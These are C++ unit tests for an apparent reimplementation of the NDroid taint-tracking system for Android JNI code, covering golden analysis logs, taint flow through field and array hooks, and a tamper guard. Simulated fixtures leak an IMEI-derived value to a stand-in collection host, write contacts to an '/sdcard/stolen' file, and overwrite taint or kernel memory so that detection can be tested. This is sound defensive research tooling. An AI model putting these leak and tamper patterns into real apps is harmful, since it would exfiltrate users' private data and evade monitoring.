TEST(Corpus, DeterministicForSeed) {
  auto p = small_params();
  const auto a = generate_corpus(p);
  const auto b = generate_corpus(p);
  ASSERT_EQ(a.size(), b.size());
  for (u32 i = 0; i < 100; ++i) {
    EXPECT_EQ(a[i].package, b[i].package);
    EXPECT_EQ(a[i].category, b[i].category);
  }
  p.seed = 7;
  const auto c = generate_corpus(p);
  bool differs = false;
  for (u32 i = 0; i < 100 && !differs; ++i) {
    differs = a[i].package != c[i].package;
  }
  EXPECT_TRUE(differs);
}

TEST(Study, ReproducesSectionIIICounts) {
  const auto p = small_params();
  const auto corpus = generate_corpus(p);
  const StudyResult r = analyze(corpus);

  EXPECT_EQ(r.total, p.total_apps);
  EXPECT_EQ(r.type1, 3'750u);
  EXPECT_EQ(r.type2, 174u);
  EXPECT_EQ(r.type3, 16u);
  EXPECT_EQ(r.type3_games, 11u);
  EXPECT_EQ(r.type3_entertainment, 5u);
  EXPECT_EQ(r.type1_without_libs, 403u);
  EXPECT_EQ(r.type2_with_dex_loader, 39u);
  EXPECT_NEAR(r.type1_fraction(), 3'750.0 / 22'791.0, 1e-9);
}

TEST(Study, GameCategoryDominatesAtFortyTwoPercent) {
  const auto corpus = generate_corpus(small_params());
  const StudyResult r = analyze(corpus);
  EXPECT_NEAR(r.category_share("Game"), 0.42, 0.03);
  EXPECT_NEAR(r.category_share("Music And Audio"), 0.05, 0.02);
  EXPECT_GT(r.category_share("Game"), r.category_share("Communication"));
}

TEST(Study, AdMobShareAmongLibLessTypeOne) {
  const auto corpus = generate_corpus(small_params());
  const StudyResult r = analyze(corpus);
  const double admob = static_cast<double>(r.type1_without_libs_admob) /
                       r.type1_without_libs;
  EXPECT_NEAR(admob, 0.481, 0.08);
}

TEST(Study, GameEngineLibsTopThePopularityList) {
  const auto corpus = generate_corpus(small_params());
  const StudyResult r = analyze(corpus);
  const auto top = r.top_libraries(5);
  ASSERT_GE(top.size(), 2u);
  EXPECT_EQ(top[0].first, "libunity.so");
  bool system_lib_present = false;
  for (const auto& [name, count] : r.top_libraries(10)) {
    if (name == "libstlport_shared.so") system_lib_present = true;
  }
  EXPECT_TRUE(system_lib_present);
}

TEST(Study, AdMobClassesDominateLibLessTypeOneDeclarations) {
  const auto corpus = generate_corpus(small_params());
  const StudyResult r = analyze(corpus);
  const auto top = r.top_native_decl_classes(8);
  ASSERT_EQ(top.size(), 8u);
  for (const auto& [cls, count] : top) {
    EXPECT_NE(std::find(admob_classes().begin(), admob_classes().end(), cls),
              admob_classes().end())
        << cls << " is not an AdMob class";
  }
  EXPECT_NEAR(r.share_with_classes(admob_classes()), 0.481, 0.08);
}

TEST(Study, ShareWithClassesEdgeCases) {
  const StudyResult empty = analyze(std::span<const AppRecord>{});
  EXPECT_EQ(empty.share_with_classes(admob_classes()), 0.0);
  EXPECT_EQ(empty.share_with_classes({}), 0.0);
}

TEST(Study, EmptyCorpus) {
  const StudyResult r = analyze(std::span<const AppRecord>{});
  EXPECT_EQ(r.total, 0u);
  EXPECT_EQ(r.type1_fraction(), 0.0);
  EXPECT_EQ(r.category_share("Game"), 0.0);
  EXPECT_TRUE(r.top_libraries(5).empty());
}

}  // namespace
}  // namespace ndroid::market
