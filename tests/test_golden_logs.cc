// Golden-log regression tests: the case-study figures (6, 8, 9) are defined
// by an *ordered* sequence of analysis events; these tests assert the order,
// not just presence, so refactors cannot silently reorder the hook pipeline.
#include <gtest/gtest.h>

#include "apps/leak_cases.h"
#include "apps/real_apps.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;

/// Asserts that `needles` appear in the log in order (not necessarily
/// adjacent). Returns the first missing needle for diagnostics.
void expect_ordered(const TraceLog& log,
                    const std::vector<std::string>& needles) {
  std::size_t line_idx = 0;
  for (const std::string& needle : needles) {
    bool found = false;
    for (; line_idx < log.lines().size(); ++line_idx) {
      if (log.lines()[line_idx].find(needle) != std::string::npos) {
        found = true;
        ++line_idx;
        break;
      }
    }
    ASSERT_TRUE(found) << "log line not found (in order): " << needle;
  }
}

TEST(GoldenLogs, Fig6QqPhoneBookSequence) {
  Device device;
  NDroid nd(device);
  const auto app = apps::build_qq_phonebook(device);
  device.dvm.call(*app.entry, {});
  expect_ordered(nd.log(),
                 {
                     "name: makeLoginRequestPackageMd5",
                     "shorty: IILLLLLLLLII",
                     "class: Lcom/tencent/tccsync/LoginUtil;",
                     "taint: 0x202",                  // args[3]
                     "Find a source function",
                     "name: getPostUrl",
                     "shorty: LI",
                     "NewStringUTF Begin",
                     "http://sync.3g.qq.com/xpimlogin?sid=",
                     "realStringAddr:0x",
                     "add taint 514 to new string object",
                     "NewStringUTF return 0x",
                     "NewStringUTF End",
                 });
}

TEST(GoldenLogs, Fig8PocCase2Sequence) {
  Device device;
  NDroid nd(device);
  const auto app = apps::build_case2(device);
  device.dvm.call(*app.entry, {});
  expect_ordered(nd.log(),
                 {
                     "name: recordContact",
                     "shorty: ZLLL",
                     "class: Lcom/ndroid/demos/Demos;",
                     "Find a source function",
                     "SourceHandler",
                     "TrustCallHandler[GetStringUTFChars] begin",
                     "jstring taint:2",
                     "TrustCallHandler[GetStringUTFChars] end",
                     "TrustCallHandler[fopen] begin",
                     "Open '/sdcard/CONTACTS'",
                     "TrustCallHandler[fopen] end",
                     "SinkHandler[fprintf] begin",
                     "write: 1",
                     "write: Vincent",
                     "write: cx@gg.com",
                     "SinkHandler[fprintf] end",
                     "TrustCallHandler[fclose] begin",
                     "TrustCallHandler[fclose] end",
                 });
  // Three GetStringUTFChars TrustCalls total (id, name, email).
  u32 trust_calls = 0;
  for (const auto& line : nd.log().lines()) {
    trust_calls +=
        line.find("TrustCallHandler[GetStringUTFChars] begin") !=
        std::string::npos;
  }
  EXPECT_EQ(trust_calls, 3u);
}

TEST(GoldenLogs, Fig9PocCase3Sequence) {
  Device device;
  NDroid nd(device);
  const auto app = apps::build_case3(device);
  device.dvm.call(*app.entry, {});
  expect_ordered(nd.log(),
                 {
                     "name: evadeTaintDroid",
                     "Find a source function",
                     "NewStringUTF Begin",
                     "realStringAddr:0x",
                     "add taint",
                     "NewStringUTF End",
                     "dvmInterpret Begin",
                     "Method Name: nativeCallback",
                     "Method Shorty: VL",
                     "Method insSize: 1",
                     "curFrame@0x",
                     "add taint to new method frame",
                 });
}

TEST(GoldenLogs, InterpretiveAblationIsBitForBitIdentical) {
  // Five engine configurations must produce the same full analysis log of
  // a case study line for line — not just the same milestones:
  //   * the seed interpretive engine (`use_tb_cache=false`, TLB off),
  //   * the TB-cache engine with the software TLB disabled,
  //   * the TB-cache engine with the software TLB enabled,
  //   * the threaded micro-op tier on top of both (production default),
  //   * the template JIT on top of everything (clean blocks as host code;
  //     threaded with superword fusion on hosts without code emission).
  auto run_case = [](bool use_tb, bool use_tlb, bool use_threaded,
                     bool use_jit) {
    Device device;
    device.cpu.set_use_tb_cache(use_tb);
    device.cpu.set_threaded_enabled(use_threaded);
    device.memory.set_tlb_enabled(use_tlb);
    device.cpu.set_jit_enabled(use_jit);
    NDroid nd(device);
    const auto app = apps::build_case2(device);
    device.dvm.call(*app.entry, {});
    return nd.log().lines();
  };
  const std::vector<std::string> interp_log =
      run_case(false, false, false, false);
  ASSERT_FALSE(interp_log.empty());
  struct Tier {
    bool use_tlb;
    bool use_threaded;
    bool use_jit;
  };
  for (const Tier tier :
       {Tier{false, false, false}, Tier{true, false, false},
        Tier{true, true, false}, Tier{true, true, true}}) {
    const std::vector<std::string> tb_log =
        run_case(true, tier.use_tlb, tier.use_threaded, tier.use_jit);
    ASSERT_EQ(tb_log.size(), interp_log.size())
        << "tlb=" << tier.use_tlb << " threaded=" << tier.use_threaded
        << " jit=" << tier.use_jit;
    for (std::size_t i = 0; i < tb_log.size(); ++i) {
      EXPECT_EQ(tb_log[i], interp_log[i])
          << "tlb=" << tier.use_tlb << " threaded=" << tier.use_threaded
          << " jit=" << tier.use_jit << ", first divergence at line " << i;
    }
  }
}

TEST(GoldenLogs, CleanRunProducesNoSourceEvents) {
  Device device;
  NDroid nd(device);
  // A JNI call with no tainted arguments: method info is logged, but no
  // SourcePolicy / SourceHandler events may appear.
  const auto app = apps::build_case4(device);  // case 4 passes nothing in
  device.dvm.call(*app.entry, {});
  for (const auto& line : nd.log().lines()) {
    EXPECT_EQ(line.find("SourceHandler"), std::string::npos) << line;
  }
}

}  // namespace
}  // namespace ndroid::core
