// Golden-log regression tests: the case-study figures (6, 8, 9) are defined
// by an *ordered* sequence of analysis events; these tests assert the order,
// not just presence, so refactors cannot silently reorder the hook pipeline.
#include <gtest/gtest.h>

#include "apps/leak_cases.h"
#include "apps/real_apps.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;

/// Asserts that `needles` appear in the log in order (not necessarily
/// adjacent). Returns the first missing needle for diagnostics.
void expect_ordered(const TraceLog& log,
                    const std::vector<std::string>& needles) {
  std::size_t line_idx = 0;
  for (const std::string& needle : needles) {
    bool found = false;
    for (; line_idx < log.lines().size(); ++line_idx) {
      if (log.lines()[line_idx].find(needle) != std::string::npos) {
        found = true;
        ++line_idx;
        break;
      }
    }
    ASSERT_TRUE(found) << "log line not found (in order): " << needle;
  }
}

TEST(GoldenLogs, Fig6QqPhoneBookSequence) {
  Device device;
  NDroid nd(device);
  const auto app = apps::build_qq_phonebook(device);
  device.dvm.call(*app.entry, {});
  expect_ordered(nd.log(),
                 {
                     "name: makeLoginRequestPackageMd5",
                     "shorty: IILLLLLLLLII",
                     "class: Lcom/tencent/tccsync/LoginUtil;",
                     "taint: 0x202",                  // args[3]
                     "Find a source function",
                     "name: getPostUrl",
                     "shorty: LI",
                     "NewStringUTF Begin",
                     "http://sync.3g.qq.com/xpimlogin?sid=",
                     "realStringAddr:0x",
                     "add taint 514 to new string object",
                     "NewStringUTF return 0x",
                     "NewStringUTF End",
                 });
}

TEST(GoldenLogs, Fig8PocCase2Sequence) {
  Device device;
  NDroid nd(device);
  const auto app = apps::build_case2(device);
  device.dvm.call(*app.entry, {});
  expect_ordered(nd.log(),
                 {
                     "name: recordContact",
                     "shorty: ZLLL",
                     "class: Lcom/ndroid/demos/Demos;",
                     "Find a source function",
                     "SourceHandler",
                     "TrustCallHandler[GetStringUTFChars] begin",
                     "jstring taint:2",
                     "TrustCallHandler[GetStringUTFChars] end",
                     "TrustCallHandler[fopen] begin",
                     "Open '/sdcard/CONTACTS'",
                     "TrustCallHandler[fopen] end",
                     "SinkHandler[fprintf] begin",
                     "write: 1",
                     "write: Vincent",
                     "write: cx@gg.com",
                     "SinkHandler[fprintf] end",
                     "TrustCallHandler[fclose] begin",
                     "TrustCallHandler[fclose] end",
                 });
  // Three GetStringUTFChars TrustCalls total (id, name, email).
  u32 trust_calls = 0;
  for (const auto& line : nd.log().lines()) {
    trust_calls +=
        line.find("TrustCallHandler[GetStringUTFChars] begin") !=
        std::string::npos;
  }
  EXPECT_EQ(trust_calls, 3u);
}

TEST(GoldenLogs, Fig9PocCase3Sequence) {
  Device device;
  NDroid nd(device);
  const auto app = apps::build_case3(device);
  device.dvm.call(*app.entry, {});
  expect_ordered(nd.log(),
                 {
                     "name: evadeTaintDroid",
                     "Find a source function",
                     "NewStringUTF Begin",
                     "realStringAddr:0x",
                     "add taint",
                     "NewStringUTF End",
                     "dvmInterpret Begin",
                     "Method Name: nativeCallback",
                     "Method Shorty: VL",
                     "Method insSize: 1",
                     "curFrame@0x",
                     "add taint to new method frame",
                 });
}

TEST(GoldenLogs, InterpretiveAblationIsBitForBitIdentical) {
  // Six engine configurations must produce the same full analysis log of
  // a case study line for line — not just the same milestones:
  //   * the seed interpretive engine (`use_tb_cache=false`, TLB off),
  //   * the TB-cache engine with the software TLB disabled,
  //   * the TB-cache engine with the software TLB enabled,
  //   * the threaded micro-op tier on top of both (production default),
  //   * the template JIT on top of everything — on x86-64 the case study's
  //     taint-live blocks run the taint-fused *traced* host stream (Table V
  //     transfers inlined over the raw label file), which the counter check
  //     below proves actually executed,
  //   * the same JIT in strict W^X mode (dual-stream arena under the
  //     RW<->RX rewrite protocol).
  struct CaseRun {
    std::vector<std::string> lines;
    u64 jit_traced_blocks = 0;
  };
  auto run_case = [](bool use_tb, bool use_tlb, bool use_threaded,
                     bool use_jit, bool wx = false) {
    Device device;
    device.cpu.set_use_tb_cache(use_tb);
    device.cpu.set_threaded_enabled(use_threaded);
    device.memory.set_tlb_enabled(use_tlb);
    device.cpu.set_jit_enabled(use_jit);
    if (wx) device.cpu.set_jit_config(1u << 20, /*wx=*/true);
    NDroid nd(device);
    const auto app = apps::build_case2(device);
    device.dvm.call(*app.entry, {});
    return CaseRun{nd.log().lines(), device.cpu.jit_traced_blocks()};
  };
  const std::vector<std::string> interp_log =
      run_case(false, false, false, false).lines;
  ASSERT_FALSE(interp_log.empty());
  struct Tier {
    bool use_tlb;
    bool use_threaded;
    bool use_jit;
    bool wx;
  };
  for (const Tier tier :
       {Tier{false, false, false, false}, Tier{true, false, false, false},
        Tier{true, true, false, false}, Tier{true, true, true, false},
        Tier{true, true, true, true}}) {
    const CaseRun run =
        run_case(true, tier.use_tlb, tier.use_threaded, tier.use_jit,
                 tier.wx);
    ASSERT_EQ(run.lines.size(), interp_log.size())
        << "tlb=" << tier.use_tlb << " threaded=" << tier.use_threaded
        << " jit=" << tier.use_jit << " wx=" << tier.wx;
    for (std::size_t i = 0; i < run.lines.size(); ++i) {
      EXPECT_EQ(run.lines[i], interp_log[i])
          << "tlb=" << tier.use_tlb << " threaded=" << tier.use_threaded
          << " jit=" << tier.use_jit << " wx=" << tier.wx
          << ", first divergence at line " << i;
    }
    // Identical logs only attest the traced JIT when it actually ran:
    // taint-live stretches of the case study must have executed the
    // taint-fused host stream, not fallen back wholesale.
    if (tier.use_jit && arm::Cpu::jit_available()) {
      EXPECT_GT(run.jit_traced_blocks, 0u) << "wx=" << tier.wx;
    }
  }
}

TEST(GoldenLogs, CleanRunProducesNoSourceEvents) {
  Device device;
  NDroid nd(device);
  // A JNI call with no tainted arguments: method info is logged, but no
  // SourcePolicy / SourceHandler events may appear.
  const auto app = apps::build_case4(device);  // case 4 passes nothing in
  device.dvm.call(*app.entry, {});
  for (const auto& line : nd.log().lines()) {
    EXPECT_EQ(line.find("SourceHandler"), std::string::npos) << line;
  }
}

}  // namespace
}  // namespace ndroid::core
