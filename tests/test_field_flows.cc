// End-to-end flows through the Table IV field-access hooks and the array
// TrustCall handlers: fields and arrays as taint smuggling channels across
// the JNI boundary.
#include <gtest/gtest.h>

#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;
using arm::LR;
using arm::PC;
using arm::R;
using arm::SP;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;

TEST(FieldFlows, SetIntFieldSmugglesTaintIntoJavaObject) {
  // Native stores a tainted int into obj.value via SetIntField; Java reads
  // it back with iget and leaks it. Without the Table IV hook, the field's
  // taint slot would stay clear.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;

  dvm::ClassObject* holder = dvm.define_class("Lfield/Holder;");
  holder->add_instance_field("value", 'I');
  dvm::ClassObject* app = dvm.define_class("Lfield/App;");

  apps::NativeLibBuilder lib(device, "libfield.so");
  auto& a = lib.a();
  const GuestAddr cls_name = lib.cstr("field/Holder");
  const GuestAddr field_name = lib.cstr("value");

  // void stash(JNIEnv*, jclass, jobject holder, int secret)
  const GuestAddr fn = lib.fn();
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));  // env
  a.mov(R(5), R(2));  // holder iref
  a.mov(R(6), R(3));  // secret
  a.mov_imm32(R(1), cls_name);
  a.call(device.jni.fn("FindClass"));
  a.mov(R(1), R(0));
  a.mov(R(0), R(4));
  a.mov_imm32(R(2), field_name);
  a.mov_imm(R(3), 0);
  a.call(device.jni.fn("GetFieldID"));
  a.mov(R(2), R(0));  // fid
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov(R(3), R(6));
  a.call(device.jni.fn("SetIntField"));
  a.pop({R(4), R(5), R(6), PC});
  lib.install();

  Method* stash = dvm.define_native(app, "stash", "VLI",
                                    kAccPublic | kAccStatic, fn);
  Method* length = device.framework.string_ops->find_method("length");
  Method* value_of = device.framework.string_ops->find_method("valueOf");
  Method* sink = device.framework.network->find_method("send");
  Method* src = device.framework.telephony->find_method("getDeviceId");

  // main: h = new Holder; secret = length(getDeviceId());  (tainted int)
  //       stash(h, secret); leaked = h.value;
  //       send(host, valueOf(leaked))
  CodeBuilder cb;
  cb.new_instance(0, holder)
      .invoke(src, {})
      .move_result(1)
      .invoke(length, {1})
      .move_result(1)
      .invoke(stash, {0, 1})
      .iget(2, 0, 0)
      .invoke(value_of, {2})
      .move_result(3)
      .const_string(4, "field.collect.example.com")
      .invoke(sink, {4, 3})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 5, cb.take());
  dvm.call(*entry, {});

  EXPECT_EQ(device.kernel.network().bytes_sent_to("field.collect.example.com"),
            "15");  // strlen of the IMEI
  ASSERT_FALSE(device.framework.leaks().empty());
  EXPECT_EQ(device.framework.leaks()[0].taint & kTaintImei, kTaintImei);
}

TEST(FieldFlows, GetObjectFieldPullsTaintIntoNative) {
  // Java stores a tainted string in a field; native fetches it with
  // GetObjectField + GetStringUTFChars and leaks it via write().
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;

  dvm::ClassObject* holder = dvm.define_class("Lfield/Box;");
  holder->add_instance_field("data", 'L');
  dvm::ClassObject* app = dvm.define_class("Lfield/App2;");

  apps::NativeLibBuilder lib(device, "libfield2.so");
  auto& a = lib.a();
  const GuestAddr cls_name = lib.cstr("field/Box");
  const GuestAddr field_name = lib.cstr("data");
  const GuestAddr path = lib.cstr("/sdcard/stolen");

  // void grab(JNIEnv*, jclass, jobject box)
  const GuestAddr fn = lib.fn();
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));
  a.mov(R(5), R(2));  // box iref
  a.mov_imm32(R(1), cls_name);
  a.call(device.jni.fn("FindClass"));
  a.mov(R(1), R(0));
  a.mov(R(0), R(4));
  a.mov_imm32(R(2), field_name);
  a.mov_imm(R(3), 0);
  a.call(device.jni.fn("GetFieldID"));
  a.mov(R(2), R(0));
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.call(device.jni.fn("GetObjectField"));
  // r0 = string iref
  a.mov(R(1), R(0));
  a.mov(R(0), R(4));
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  a.mov(R(5), R(0));  // C string
  // fd = open(path, write); write(fd, p, strlen(p))
  a.mov_imm32(R(0), path);
  a.mov_imm(R(1), 1);
  a.call(device.libc.fn("open"));
  a.mov(R(6), R(0));
  a.mov(R(0), R(5));
  a.call(device.libc.fn("strlen"));
  a.mov(R(2), R(0));
  a.mov(R(0), R(6));
  a.mov(R(1), R(5));
  a.call(device.libc.fn("write"));
  a.pop({R(4), R(5), R(6), PC});
  lib.install();

  Method* grab =
      dvm.define_native(app, "grab", "VL", kAccPublic | kAccStatic, fn);
  Method* src = device.framework.contacts->find_method("queryContacts");

  // main: b = new Box; b.data = queryContacts(); grab(b)
  CodeBuilder cb;
  cb.new_instance(0, holder)
      .invoke(src, {})
      .move_result(1)
      .iput(1, 0, 0)
      .invoke(grab, {0})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 2, cb.take());
  dvm.call(*entry, {});

  EXPECT_EQ(device.kernel.vfs().content_str("/sdcard/stolen"),
            "1|Vincent|cx@gg.com");
  ASSERT_FALSE(nd.leaks().empty());
  EXPECT_EQ(nd.leaks()[0].sink, "write");
  EXPECT_EQ(nd.leaks()[0].taint, kTaintContacts);
}

TEST(FieldFlows, ArrayRegionCarriesTaintBothWays) {
  // Tainted Java int[] -> GetIntArrayRegion -> native buffer must be
  // tainted; native buffer -> SetIntArrayRegion -> array object tainted.
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;

  dvm::Object* arr = dvm.heap().new_array(nullptr, 4, 4, false);
  dvm.heap().set_object_taint(*arr, kTaintSms);
  const u32 arr_iref = dvm.irt().add(arr);
  const GuestAddr buf = device.libc.malloc_guest(16);

  device.cpu.call_function(device.jni.fn("GetIntArrayRegion"),
                           {device.dvm.jnienv_addr(), arr_iref, 0, 4, buf});
  EXPECT_EQ(nd.taint_engine().map().get_range(buf, 16), kTaintSms);

  // Reverse: a clean array plus a tainted native buffer.
  dvm::Object* clean = dvm.heap().new_array(nullptr, 4, 4, false);
  const u32 clean_iref = dvm.irt().add(clean);
  const GuestAddr buf2 = device.libc.malloc_guest(16);
  nd.taint_engine().map().set_range(buf2, 16, kTaintImei);
  device.cpu.call_function(device.jni.fn("SetIntArrayRegion"),
                           {device.dvm.jnienv_addr(), clean_iref, 0, 4, buf2});
  EXPECT_EQ(dvm.heap().object_taint(*clean), kTaintImei);
}

TEST(FieldFlows, GetByteArrayElementsAndReleaseRoundTrip) {
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;

  dvm::Object* arr = dvm.heap().new_array(nullptr, 8, 1, false);
  dvm.heap().set_object_taint(*arr, kTaintContacts);
  const u32 iref = dvm.irt().add(arr);

  const u32 buf = device.cpu.call_function(
      device.jni.fn("GetByteArrayElements"),
      {device.dvm.jnienv_addr(), iref, 0});
  ASSERT_NE(buf, 0u);
  EXPECT_EQ(nd.taint_engine().map().get_range(buf, 8), kTaintContacts);

  // Taint the buffer with something new and release (mode 0 = copy back).
  nd.taint_engine().map().add_range(buf, 8, kTaintImsi);
  device.cpu.call_function(device.jni.fn("ReleaseByteArrayElements"),
                           {device.dvm.jnienv_addr(), iref, buf, 0});
  EXPECT_EQ(dvm.heap().object_taint(*arr) & kTaintImsi, kTaintImsi);
}

TEST(FieldFlows, StaticFieldHooks) {
  Device device;
  NDroid nd(device);
  auto& dvm = device.dvm;
  dvm::ClassObject* cls = dvm.define_class("Lfield/Stat;");
  cls->add_static_field("cfg", 'I');
  const GuestAddr fid = dvm.field_id(cls, "cfg", true);

  // Native-side SetStaticIntField with a tainted value register.
  nd.taint_engine().set_reg(3, kTaintIccid);
  device.cpu.call_function(
      device.jni.fn("SetStaticIntField"),
      {device.dvm.jnienv_addr(), dvm.class_mirror(cls), fid, 777});
  EXPECT_EQ(cls->statics()[0].value, 777u);
  EXPECT_EQ(cls->statics()[0].taint, kTaintIccid);

  // GetStaticIntField restores the taint into the native shadow.
  nd.taint_engine().set_reg(0, kTaintClear);
  device.cpu.call_function(
      device.jni.fn("GetStaticIntField"),
      {device.dvm.jnienv_addr(), dvm.class_mirror(cls), fid});
  EXPECT_EQ(nd.taint_engine().reg(0), kTaintIccid);
}

}  // namespace
}  // namespace ndroid::core
