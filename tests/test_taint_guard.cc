// §VII extension: taint protection against apps that manipulate the taint
// tags or trusted code from native code.
#include <gtest/gtest.h>

#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

namespace ndroid::core {
namespace {

using android::Device;
using android::Layout;

NDroidConfig guarded() {
  NDroidConfig cfg;
  cfg.taint_protection = true;
  return cfg;
}

/// Builds a native method that stores `value` to the absolute address
/// `target` and returns.
dvm::Method* build_poker(Device& device, GuestAddr target,
                         const std::string& lib_name) {
  apps::NativeLibBuilder lib(device, lib_name);
  auto& a = lib.a();
  using arm::R;
  const GuestAddr fn = lib.fn();
  a.mov_imm32(R(1), target);
  a.mov_imm(R(0), 0);
  a.str(R(0), R(1), 0);
  a.ret();
  lib.install();
  dvm::ClassObject* cls = device.dvm.define_class("L" + lib_name + ";");
  return device.dvm.define_native(cls, "poke", "V",
                                  dvm::kAccPublic | dvm::kAccStatic, fn);
}

TEST(TaintGuard, FlagsDvmStackTampering) {
  Device device;
  NDroid nd(device, guarded());
  // An evasive app overwrites a taint tag slot inside the DVM stack.
  const GuestAddr slot = Layout::kDalvikStack + Layout::kDalvikStackSize - 4;
  dvm::Method* poke = build_poker(device, slot, "evil_stack");
  device.dvm.call(*poke, {});
  ASSERT_NE(nd.guard(), nullptr);
  ASSERT_EQ(nd.guard()->alerts().size(), 1u);
  EXPECT_EQ(nd.guard()->alerts()[0].region, "[dalvik-stack]");
  EXPECT_EQ(nd.guard()->alerts()[0].target, slot);
  EXPECT_EQ(nd.guard()->alerts()[0].module, "evil_stack");
}

TEST(TaintGuard, FlagsTrustedFunctionModification) {
  Device device;
  NDroid nd(device, guarded());
  dvm::Method* poke =
      build_poker(device, device.dvm.sym("dvmCallJNIMethod"), "evil_dvm");
  device.dvm.call(*poke, {});
  ASSERT_EQ(nd.guard()->alerts().size(), 1u);
  EXPECT_EQ(nd.guard()->alerts()[0].region, "libdvm.so");
}

TEST(TaintGuard, FlagsKernelStructTampering) {
  Device device;
  NDroid nd(device, guarded());
  dvm::Method* poke =
      build_poker(device, os::Kernel::kTaskRoot, "evil_kernel");
  device.dvm.call(*poke, {});
  ASSERT_EQ(nd.guard()->alerts().size(), 1u);
  EXPECT_EQ(nd.guard()->alerts()[0].region, "[kernel]");
}

TEST(TaintGuard, BenignStoresNotFlagged) {
  Device device;
  NDroid nd(device, guarded());
  // Stores into the app's own data are fine.
  const GuestAddr own = device.libc.malloc_guest(16);
  dvm::Method* poke = build_poker(device, own, "benign");
  device.dvm.call(*poke, {});
  EXPECT_TRUE(nd.guard()->alerts().empty());
}

TEST(TaintGuard, SystemWritesToDvmStackAreLegitimate) {
  // The interpreter and the JNI bridge write the DVM stack constantly; the
  // guard must only fire on third-party stores. Running an ordinary Java
  // method must produce no alerts.
  Device device;
  NDroid nd(device, guarded());
  dvm::ClassObject* cls = device.dvm.define_class("LOk;");
  dvm::CodeBuilder cb;
  cb.const_imm(0, 1).add(0, 0, 0).return_value(0);
  dvm::Method* m = device.dvm.define_method(
      cls, "f", "I", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());
  device.dvm.call(*m, {});
  EXPECT_TRUE(nd.guard()->alerts().empty());
}

TEST(TaintGuard, DisabledByDefault) {
  Device device;
  NDroid nd(device);
  EXPECT_EQ(nd.guard(), nullptr);
}

TEST(TaintGuard, StmTamperingAlsoCaught) {
  Device device;
  NDroid nd(device, guarded());
  apps::NativeLibBuilder lib(device, "evil_stm");
  auto& a = lib.a();
  using arm::R;
  const GuestAddr fn = lib.fn();
  a.mov_imm32(R(1), Layout::kDalvikStack + 0x100);
  a.mov_imm(R(2), 0);
  a.mov_imm(R(3), 0);
  a.stm_ia(R(1), (1u << 2) | (1u << 3), /*writeback=*/false);
  a.ret();
  lib.install();
  dvm::ClassObject* cls = device.dvm.define_class("Levil_stm;");
  dvm::Method* m = device.dvm.define_native(
      cls, "poke", "V", dvm::kAccPublic | dvm::kAccStatic, fn);
  device.dvm.call(*m, {});
  EXPECT_EQ(nd.guard()->alerts().size(), 2u);  // one per stored register
}

}  // namespace
}  // namespace ndroid::core
