// Coverage of the remaining Dalvik-like opcodes and the disassembler.
#include "apps/native_lib_builder.h"
#include <gtest/gtest.h>

#include <bit>
#include <random>

#include "arm/decoder.h"
#include "android/device.h"
#include "core/ndroid.h"

namespace ndroid::dvm {
namespace {

using android::Device;

class InterpFixture : public ::testing::Test {
 protected:
  Slot run_binop(DOp op, u32 a, u32 b, Taint ta = 0, Taint tb = 0) {
    ClassObject* cls = device_.dvm.define_class(
        "Lops/C" + std::to_string(counter_++) + ";");
    CodeBuilder cb;
    cb.binop(op, 0, 2, 3).return_value(0);
    Method* m = device_.dvm.define_method(cls, "f", "III",
                                          kAccPublic | kAccStatic, 4,
                                          cb.take());
    return device_.dvm.call(*m, {Slot{a, ta}, Slot{b, tb}});
  }

  Device device_;
  int counter_ = 0;
};

TEST_F(InterpFixture, IntegerBinops) {
  EXPECT_EQ(run_binop(DOp::kSub, 50, 8).value, 42u);
  EXPECT_EQ(run_binop(DOp::kMul, 6, 7).value, 42u);
  EXPECT_EQ(run_binop(DOp::kDiv, 85, 2).value, 42u);
  EXPECT_EQ(run_binop(DOp::kRem, 142, 100).value, 42u);
  EXPECT_EQ(run_binop(DOp::kAnd, 0xFF, 0x2A).value, 42u);
  EXPECT_EQ(run_binop(DOp::kOr, 0x20, 0x0A).value, 42u);
  EXPECT_EQ(run_binop(DOp::kXor, 0x6A, 0x40).value, 42u);
  EXPECT_EQ(run_binop(DOp::kShl, 21, 1).value, 42u);
  EXPECT_EQ(run_binop(DOp::kShr, 84, 1).value, 42u);
  // Signed semantics.
  EXPECT_EQ(run_binop(DOp::kDiv, static_cast<u32>(-84), 2).value,
            static_cast<u32>(-42));
  EXPECT_EQ(run_binop(DOp::kShr, static_cast<u32>(-84), 1).value,
            static_cast<u32>(-42));
}

TEST_F(InterpFixture, FloatBinops) {
  auto f = [](float x) { return std::bit_cast<u32>(x); };
  EXPECT_EQ(run_binop(DOp::kAddFloat, f(40.0f), f(2.0f)).value, f(42.0f));
  EXPECT_EQ(run_binop(DOp::kMulFloat, f(10.5f), f(4.0f)).value, f(42.0f));
  EXPECT_EQ(run_binop(DOp::kDivFloat, f(84.0f), f(2.0f)).value, f(42.0f));
}

TEST_F(InterpFixture, EveryBinopUnionsTaint) {
  for (DOp op : {DOp::kSub, DOp::kMul, DOp::kAnd, DOp::kOr, DOp::kXor,
                 DOp::kShl, DOp::kShr, DOp::kAddFloat, DOp::kMulFloat}) {
    const Slot r = run_binop(op, 8, 2, kTaintImei, kTaintSms);
    EXPECT_EQ(r.taint, kTaintImei | kTaintSms)
        << "op " << static_cast<int>(op);
  }
}

TEST_F(InterpFixture, ConditionalBranchVariants) {
  // abs-diff via kIfGe.
  ClassObject* cls = device_.dvm.define_class("Lops/Br;");
  CodeBuilder cb;
